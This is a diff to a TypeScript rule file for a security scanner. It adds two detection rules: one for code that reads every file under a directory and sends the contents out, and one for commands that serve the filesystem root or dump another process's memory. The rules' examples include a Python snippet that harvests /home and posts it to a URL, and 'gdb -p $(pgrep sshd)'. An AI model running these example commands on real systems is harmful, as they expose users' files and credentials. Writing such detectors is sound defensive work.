@@ -91,4 +91,39 @@ export const theft: ScanRule[] = [
       not: shell('curl -d @body.json http://h'),
     },
   },
+  {
+    name: 'gathers-files',
+    set: 'hostile',
+    kind: 'shape',
+    pattern: '^reads-everything$',
+    also: [
+      {
+        kind: 'call',
+        pattern: String.raw`\.(post|put|patch|sendmail|send_message|sendall|sendto|storbinary|upload\w*)$|^(urllib\.request\.)?Request$|^smtplib\.`,
+      },
+    ],
+    reason: 'it reads all that somebody has, and sends something somewhere else',
+    hint: HINT,
+    examples: {
+      match: python(
+        "import os, requests\nhits = []\nfor d, _, names in os.walk('/home'):\n    for n in names: hits.append(open(os.path.join(d, n)).read())\nrequests.post(u, json=hits)",
+      ),
+      not: python(
+        "import os\nfor d, _, names in os.walk('/home'):\n    for n in names: print(open(os.path.join(d, n)).read())",
+        "import os, requests\nfor d, _, names in os.walk('docs'):\n    for n in names: print(open(n).read())\nrequests.post(u)",
+      ),
+    },
+  },
+  {
+    name: 'shows-files',
+    set: 'hostile',
+    kind: 'command',
+    pattern: String.raw`^python[\d.]*\s.*-m\s*http\.server\b.*(--directory|-d)[\s=]+(/|~|\$HOME|/(home|root|etc)/?)(\s|$)|^(sudo )?(gcore\b|gdb\b.*(-p\s*\$\(|dump memory))`,
+    reason: 'it shows somebody’s files, or another program’s memory, to whoever asks',
+    hint: HINT,
+    examples: {
+      match: shell('python3 -m http.server 8000 --directory /', 'gdb -p $(pgrep sshd) -batch', 'gcore 1234'),
+      not: shell('python3 -m http.server 8000', 'python3 -m http.server --directory dist', 'gdb ./a.out'),
+    },
+  },
 ]
